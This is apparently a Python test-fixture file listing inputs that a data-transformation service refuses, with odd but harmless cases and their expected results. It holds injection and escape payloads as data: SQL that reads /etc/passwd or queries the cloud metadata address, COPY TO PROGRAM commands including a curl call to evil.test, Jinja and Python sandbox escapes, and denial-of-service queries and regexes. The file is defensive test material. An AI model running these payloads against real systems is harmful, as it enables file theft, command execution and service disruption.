"""Steps that nobody should send, by their row in the catalogue of bad input; and odd ones that do no harm."""

from typing import Any

Step = dict[str, Any]


def query(text: str) -> list[Step]:
    """A query over the session's table."""
    return [{"kind": "sql", "query": text}]


def where(text: str) -> list[Step]:
    """A condition on the session's table."""
    return [{"kind": "filter", "where": text}]


def derived(text: str) -> list[Step]:
    """A new column of the session's table."""
    return [{"kind": "derive", "columns": [{"column": "c", "expression": text}]}]


_STATEMENTS = [
    "COPY input TO '/tmp/x.csv'", "COPY (SELECT 1) TO PROGRAM 'id'", "ATTACH '/etc/passwd' AS x", "INSTALL httpfs",
    "LOAD httpfs", "EXPORT DATABASE '/tmp/x'", "SET enable_external_access = true", "PRAGMA database_list",
    "SELECT * FROM sniff_csv('/etc/passwd')", "SELECT * FROM glob('/etc/*')", "SELECT * FROM duckdb_secrets()",
    "SELECT getvariable('x') FROM input", "SELECT * FROM read_csv('http://169.254.169.254/x.csv')",
    "SELECT * FROM '/etc/passwd'", "SELECT * FROM information_schema.tables", "CREATE TABLE x AS SELECT 1",
    "WITH x AS (DELETE FROM input RETURNING *) SELECT * FROM x", "SELECT 1; DROP TABLE input", "CALL pragma_version()",
]  # fmt: skip
_ENDLESS = [
    "SELECT repeat('x', 1000000000) AS c FROM input", "SELECT * FROM range(1000000000000)",
    "SELECT * FROM generate_series(1, 1000000000000)", "SELECT a.a FROM input a, input b, input c, input d",
    "SELECT a.a FROM input a CROSS JOIN input b", "SELECT a.a FROM input a JOIN input b ON true",
    "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT i FROM n",
]  # fmt: skip
_SERVERS = [
    "pg_read_file('/etc/passwd') = ''", "lo_export(1, '/tmp/x') = 1", "query_to_xml('delete', true, true, '') = ''",
    "dblink('host=x', 'select 1') = ''", "pg_sleep(1000000) = ''", "set_config('app.tenant', 'x', false) = ''",
    "current_setting('app.tenant') = ''", "pg_ls_dir('/') = ''", "a > (SELECT 1)", "version() = ''",
]  # fmt: skip
_TEMPLATES = [
    "{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "{% for i in range(1000000000) %}{% endfor %}", "'{0.__class__}'.format(a) = ''", "${a} > 1",
]  # fmt: skip
_PROGRAMS = [
    "__import__('os').system('id') = 0", "(lambda x=print(1): x)() = 1", "f'{a.__globals__}' = ''", "a.__class__ = 1",
    "exec('1') = 1", "@decorator a > 1", "eval('1') = 1", "open('/etc/passwd') = ''",
]  # fmt: skip
_DIALECTS = ["$$x$$ = b", "U&'\\0041' = b", "E'\\x41' = b AND", "a = `a`", "a = [a]", "b = N'x'", "a := 1"]
_PATTERNS = ["(?<=a)b", "(?<!a)b", "(a)\\1", "(a{1000}){1000}", "((a{100}){100}){100}", "(", "a" * 9_990]

# Name, behind its row in the catalogue: steps that are refused before anything runs.
REFUSED: dict[str, list[Step]] = (
    {f"82/{text}": query(text) for text in _STATEMENTS}
    | {f"83/{text}": query(text) for text in _ENDLESS}
    | {f"85/{text}": where(text) for text in _SERVERS}
    | {f"85/query {text}": query(f"SELECT a FROM input WHERE {text}") for text in _SERVERS[:7]}
    | {f"86/{text}": where(text) for text in _DIALECTS}
    | {f"88/{name!r}": [{"kind": "rename", "columns": {"a": name}}] for name in ("", "x\x00y", "x" * 20_000)}
    | {f"89/{text}": where(text) for text in _TEMPLATES}
    | {f"91/{text}": where(text) for text in _PROGRAMS}
    | {f"92/{text[:30]}": where(f"REGEXP_LIKE(b, '{text}')") for text in _PATTERNS}
    | {
        "92/look-behind in a step": [
            {"kind": "extract", "column": "b", "pattern": "(?<=a)(b)", "into": ["c"], "keep": True}
        ],
        "92/megabyte": where("REGEXP_LIKE(b, '" + "a" * 900_000 + "')"),
        "94/value": derived("LPAD(b, 500000000)"),
        "94/nested value": derived("REPLACE(" * 30 + "b" + ", 'x', 'xxxxxxxxxx')" * 30 + " || pg_sleep(1)"),
        "94/pad": [{"kind": "text", "columns": ["b"], "operations": [{"kind": "pad_end", "length": 500_000_000}]}],
        "95/cycle": [
            {
                "kind": "derive",
                "columns": [{"column": "x", "expression": "y"}, {"column": "y", "expression": "x"}],
            }
        ],
        "95/itself": derived("c + 1"),
        "95/query": query("WITH x AS (SELECT a FROM y), y AS (SELECT a FROM x) SELECT a FROM x"),
        "95/steps": [{"kind": "limit", "rows": 1}] * 501,
        "95/no such table": [{"kind": "join", "with": "nowhere", "how": "left", "on": [{"left": "a", "right": "a"}]}],
        "112/unknown kind": [{"kind": "http_post", "url": "http://evil.test"}],
        "112/program": query("COPY input TO PROGRAM 'curl http://evil.test'"),
        "112/extra": [{"kind": "limit", "rows": 1, "tenant_id": "x"}],
        "112/module": [{"kind": "module", "name": "nobody-has-this"}],
        "112/many": [{"kind": "limit", "rows": 1}] * 20_000,
        "112/mode": [{"kind": "limit", "rows": 1, "mode": "delete"}],
    }
)

# What a query or a new column of it gives over the rows (1, 'x') and (2, 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!').
LONG = "a" * 32 + "!"
HARMLESS: dict[str, tuple[list[Step], list[Any]]] = {
    "86/comment of MySQL": (query("SELECT a AS c FROM input /*!50000 WHERE pg_sleep(9) = '' */"), [1, 2]),
    "86/two dashes": (query("SELECT a --1\n AS c FROM input"), [1, 2]),
    "86/backslash": (derived("'it\\'"), ["it\\", "it\\"]),
    "86/quotes": (derived("'it''s'"), ["it's", "it's"]),
    "88/quote": ([{"kind": "rename", "columns": {"a": 'x"; DROP TABLE y;--', "b": "c"}}], ["x", LONG]),
    "88/reserved": ([{"kind": "rename", "columns": {"a": "select", "b": "c"}}], ["x", LONG]),
    "89/template as text": (derived("'{{ 7 * 7 }}'"), ["{{ 7 * 7 }}"] * 2),
    "92/backtracking": (derived("REGEXP_LIKE(b, '(a+)+$')"), [False, False]),
    "92/backtracking too": (derived("REGEXP_LIKE(b, '(.*)*x')"), [True, False]),
    "94/many parts": (
        [{"kind": "conditional", "column": "c", "cases": [{"when": "a = 1", "then": "1"}], "otherwise": "2"}], [1, 2],
    ),
}  # fmt: skip
